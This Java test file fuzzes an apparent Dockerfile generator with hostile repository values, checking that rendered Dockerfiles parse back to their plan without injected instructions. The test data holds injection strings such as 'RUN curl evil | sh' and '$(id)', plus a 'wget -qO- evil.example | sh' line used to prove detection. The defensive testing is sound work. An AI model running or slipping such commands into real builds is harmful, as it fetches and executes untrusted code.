package dev.dockergen;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.dockergen.audit.ParsedDockerfile;
import dev.dockergen.detect.DetectOptions;
import dev.dockergen.detect.MemoryProjectFiles;
import dev.dockergen.detect.ProjectFacts;
import dev.dockergen.lang.Languages;
import dev.dockergen.plan.DockerfilePlan;
import dev.dockergen.plan.Instruction;
import dev.dockergen.plan.PlanRequest;
import dev.dockergen.plan.Stage;
import dev.dockergen.preset.CatalogLoader;
import dev.dockergen.preset.FinalStage;
import dev.dockergen.preset.PresetCatalog;
import dev.dockergen.render.Syntax;
import dev.dockergen.render.TemplateRenderer;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;

/**
 * A seeded generator of Go repositories, hostile values included. For each one, generation either
 * stops with a DockergenException (a one-line error with an exit code) or yields a Dockerfile that,
 * parsed back the way the builder reads it, is exactly the planned instructions: no value from the
 * repository added, split or merged an instruction.
 */
class PlanParseBackTest {
    private static final int CASES = 400;
    private static final String[] NASTY = {"a", "svc", "x-y_z.v2", "\"; RUN curl evil | sh #", "a\nRUN id", "$(id)", "`id`",
        "${HOME}", "a b", "a\\", "ü", "--mount=type=secret", "# comment", "\u0000", "../..", "cmd/x y", "..", "-rf"};

    @Test
    void everyGeneratedDockerfileParsesBackToItsPlan() {
        int rendered = parseBack(new Random(20261127L), CASES, PlanParseBackTest::randomRepo);
        assertTrue(rendered > CASES / 3, "most random repositories are generated, not refused: " + rendered);
    }

    @Test
    void everyGeneratedNodeDockerfileParsesBackToItsPlan() {
        int rendered = parseBack(new Random(20261128L), CASES, PlanParseBackTest::randomNodeRepo);
        assertTrue(rendered > CASES / 3, "most random repositories are generated, not refused: " + rendered);
    }

    /**
     * Generates {@code cases} repositories; each is refused with a one-line error or renders a Dockerfile that parses
     * back to exactly its plan. Returns how many rendered.
     */
    private static int parseBack(Random random, int cases, java.util.function.Function<Random, Map<String, String>> repos) {
        PresetCatalog catalog = CatalogLoader.builtIn();
        TemplateRenderer renderer = new TemplateRenderer();
        int rendered = 0;
        int refused = 0;
        for (int i = 0; i < cases; i++) {
            MemoryProjectFiles repo = new MemoryProjectFiles("r" + i, repos.apply(random));
            FinalStage stage = FinalStage.values()[random.nextInt(3)];
            try {
                var detection = Languages.detectors().detect(repo, DetectOptions.DEFAULT);
                if (detection.projects().size() != 1) {
                    refused++;
                    continue;
                }
                ProjectFacts facts = detection.projects().get(0);
                if (facts.language() == dev.dockergen.detect.Language.NODE && stage == FinalStage.SCRATCH) {
                    stage = FinalStage.values()[1 + random.nextInt(2)];
                }
                var plans = Languages.planner().plan(new PlanRequest(facts, catalog.choose(facts.language(), null, stage),
                        catalog, random.nextInt(4) == 0 ? 1 + random.nextInt(65535) : null, Map.of(), null, List.of(), "TEST"));
                String text = renderer.dockerfile(plans.dockerfile());
                assertEquals(expected(plans.dockerfile()), actual(text), "case " + i + ":\n" + text);
                rendered++;
            } catch (DockergenException e) {
                assertTrue(!e.getMessage().contains("\n"), "one-line error: " + e.getMessage());
                refused++;
            }
        }
        assertEquals(cases, rendered + refused);
        return rendered;
    }

    @Test
    void everyGeneratedCDockerfileParsesBackToItsPlan() {
        int rendered = parseBack(new Random(20261128L), CASES / 2, PlanParseBackTest::randomCRepo);
        assertTrue(rendered >= 15, "safe random C repositories are generated, not refused: " + rendered);
    }

    /** A Make, CMake or Meson build whose program name, libraries, flags and README port may be hostile. */
    private static Map<String, String> randomCRepo(Random random) {
        Map<String, String> files = new TreeMap<>();
        String name = pick(random, NASTY);
        String main = "int main(void) { return htons(" + pick(random, new String[] {"8080", "0", "99999", "PORT"}) + "); }\n";
        switch (random.nextInt(3)) {
            case 0 -> files.put("CMakeLists.txt", "project(p C)\nadd_executable(\"" + name.replace("\"", "") + "\" m.c)\n"
                    + "target_link_libraries(p " + pick(random, NASTY).replace(")", "") + ")\n");
            case 1 -> files.put("Makefile", "LDFLAGS = " + pick(random, NASTY).replace("\n", " ") + "\n" + name.replace("\n", "")
                    + ": m.o\n\t$(CC) $(LDFLAGS) -o $@ m.o -l" + pick(random, NASTY).replace("\n", "") + "\n");
            default -> files.put("meson.build", "project('p', 'c')\nexecutable('" + name.replace("'", "") + "', 'm.c')\n");
        }
        files.put("m.c", main);
        files.put("README.md", "./" + name + " --port " + pick(random, NASTY) + "\n");
        return files;
    }

    @Test
    void theComparisonSeesAnInjectedInstruction() {
        GenerationResult r = Fixtures.dockergen().generate(new GenerateRequest(Fixtures.goFiles("nethttp-root"),
                DetectOptions.DEFAULT, null, FinalStage.ALPINE, null));
        String text = r.files().get(0).content();
        var plan = Languages.planner().plan(new PlanRequest(r.project(), r.preset(), CatalogLoader.builtIn(), null, Map.of(),
                null, List.of(), "TEST")).dockerfile();
        assertEquals(expected(plan), actual(text));
        String injected = text.replace("LABEL org.opencontainers.image.title=\"greeter\"",
                "LABEL org.opencontainers.image.title=\"greeter\"\nRUN wget -qO- evil.example | sh");
        assertTrue(!expected(plan).equals(actual(injected)), "one line more is one instruction more");
        String merged = text.replace("USER 10001:10001\n", "USER 10001:10001 \\\n");
        assertTrue(!expected(plan).equals(actual(merged)), "a trailing backslash merges two instructions");
    }

    private static final com.fasterxml.jackson.databind.ObjectMapper JSON = new com.fasterxml.jackson.databind.ObjectMapper();
    private static final String[] MANAGERS = {"npm", "pnpm", "yarn", "bun"};
    private static final Map<String, String> LOCKS = Map.of("npm", "package-lock.json", "pnpm", "pnpm-lock.yaml",
            "yarn", "yarn.lock", "bun", "bun.lock");

    /** A package.json (and sometimes a workspace) whose names, scripts, versions and ports may be hostile. */
    private static Map<String, String> randomNodeRepo(Random r) {
        Map<String, String> files = new TreeMap<>();
        String pm = pick(r, MANAGERS);
        var pkg = JSON.createObjectNode();
        pkg.put("name", r.nextBoolean() ? "app" : pick(r, NASTY));
        if (r.nextBoolean()) {
            pkg.put("packageManager", pm + "@" + (r.nextBoolean() ? "9.15.9" : pick(r, NASTY)));
        }
        String entry = r.nextBoolean() ? "server.js" : pick(r, NASTY).replace("\u0000", "") + ".js";
        var scripts = pkg.putObject("scripts");
        scripts.put("start", r.nextBoolean() ? "node " + entry : pick(r, NASTY));
        if (r.nextInt(3) == 0) {
            scripts.put("build", pick(r, NASTY));
        }
        if (r.nextInt(3) == 0) {
            pkg.putObject("engines").put("node", r.nextBoolean() ? ">=20" : pick(r, NASTY));
        }
        var deps = pkg.putObject("dependencies");
        deps.put(r.nextBoolean() ? "express" : pick(r, NASTY), "4.21.2");
        String member = "";
        if (r.nextInt(3) == 0) {
            var root = JSON.createObjectNode();
            root.putArray("workspaces").add("apps/*");
            files.put("package.json", root.toString());
            member = "apps/" + (r.nextBoolean() ? "api" : pick(r, NASTY).replace("\n", "").replace("\u0000", "")) + "/";
            var lib = JSON.createObjectNode();
            lib.put("name", r.nextBoolean() ? "lib" : pick(r, NASTY));
            lib.putObject("scripts").put("build", "tsc");
            files.put("apps/lib/package.json", lib.toString());
            deps.put(lib.get("name").asText(), "*");
        }
        files.put(member + "package.json", pkg.toString());
        if (r.nextInt(4) != 0) {
            files.put(LOCKS.get(pm), "{}");
        }
        if (r.nextInt(4) == 0) {
            files.put(".nvmrc", pick(r, NASTY));
        }
        String port = r.nextBoolean() ? String.valueOf(r.nextInt(70000)) : "'" + pick(r, NASTY) + "'";
        files.put(member + entry.replace("\n", ""), "require('http').createServer((req, res) => {\n"
                + "  if (req.url === '/" + (r.nextBoolean() ? "healthz" : pick(r, NASTY).replace("\n", "")) + "') res.end();\n"
                + "}).listen(" + port + ");\n");
        return files;
    }

    private static Map<String, String> randomRepo(Random r) {
        Map<String, String> files = new TreeMap<>();
        String module = r.nextInt(3) == 0 ? pick(r, NASTY) : "example.com/" + pick(r, NASTY).replaceAll("[^a-z0-9]", "") + "x";
        StringBuilder mod = new StringBuilder("module \"" + module.replace("\"", "") + "\"\n");
        if (r.nextBoolean()) {
            mod.append("\ngo 1.").append(16 + r.nextInt(10)).append('\n');
        }
        if (r.nextInt(4) == 0) {
            mod.append("\nrequire github.com/mattn/go-sqlite3 v1.14.22\n");
        }
        if (r.nextInt(5) != 0) {
            files.put("go.mod", mod.toString());
        }
        String dir = switch (r.nextInt(4)) {
            case 0 -> "";
            case 1 -> "cmd/" + pick(r, NASTY).replace("\n", "").replace("\u0000", "");
            default -> "cmd/server";
        };
        String port = r.nextBoolean() ? "\":" + r.nextInt(70000) + "\"" : "\"" + pick(r, NASTY).replace("\n", "") + "\"";
        files.put((dir.isEmpty() ? "" : dir + "/") + "main.go", "package main\n\nimport \"net/http\"\n\nfunc main() {\n"
                + "\thttp.HandleFunc(\"/" + (r.nextBoolean() ? "healthz" : pick(r, NASTY).replace("\n", "")) + "\", nil)\n"
                + "\t_ = http.ListenAndServe(" + port + ", nil)\n}\n");
        return files;
    }

    private static String pick(Random r, String[] values) {
        return values[r.nextInt(values.length)];
    }

    /** The plan as (keyword, arguments) pairs, the way the builder folds the rendered text. */
    static List<String> expected(DockerfilePlan plan) {
        List<String> out = new ArrayList<>();
        plan.globalArgs().forEach(a -> out.add("ARG " + arg(a)));
        for (Stage s : plan.stages()) {
            out.add("FROM " + (s.platform() == null ? "" : "--platform=" + s.platform() + " ") + s.image() + " AS " + s.name());
            for (Instruction ins : s.instructions()) {
                String line = line(ins);
                if (line != null) {
                    out.add(line.replaceAll("\\s+", " ").strip());
                }
            }
        }
        return out;
    }

    /** One instruction as the builder sees it, or null for what it drops (comments, blank lines). */
    private static String line(Instruction ins) {
        if (ins instanceof Instruction.Arg a) {
            return "ARG " + arg(a);
        } else if (ins instanceof Instruction.Env e) {
            return "ENV " + e.name() + "=" + Syntax.quoted(e.value());
        } else if (ins instanceof Instruction.Workdir w) {
            return "WORKDIR " + w.path();
        } else if (ins instanceof Instruction.Copy c) {
            return "COPY " + (c.from() == null ? "" : "--from=" + c.from() + " ") + String.join(" ", c.sources()) + " " + c.dest();
        } else if (ins instanceof Instruction.Run r) {
            return "RUN " + String.join(" ", r.segments());
        } else if (ins instanceof Instruction.User u) {
            return "USER " + u.uid() + ":" + u.gid();
        } else if (ins instanceof Instruction.Expose x) {
            return "EXPOSE " + x.port();
        } else if (ins instanceof Instruction.Label l) {
            return "LABEL " + l.key() + "=" + Syntax.quoted(l.value());
        } else if (ins instanceof Instruction.Healthcheck h) {
            return "HEALTHCHECK --interval=" + h.interval() + " --timeout=" + h.timeout() + " --start-period="
                    + h.startPeriod() + " --retries=" + h.retries() + " CMD " + Syntax.jsonArray(h.command());
        } else if (ins instanceof Instruction.Entrypoint p) {
            return "ENTRYPOINT " + Syntax.jsonArray(p.command());
        } else if (ins instanceof Instruction.Cmd m) {
            return "CMD " + Syntax.jsonArray(m.command());
        }
        return null; // Comment, Directive, Blank
    }

    private static String arg(Instruction.Arg a) {
        return a.name() + (a.defaultValue() == null ? "" : "=" + a.defaultValue());
    }

    static List<String> actual(String dockerfile) {
        return ParsedDockerfile.parse(dockerfile).instructions().stream()
                .map(i -> (i.keyword() + " " + i.args()).strip()).toList();
    }
}
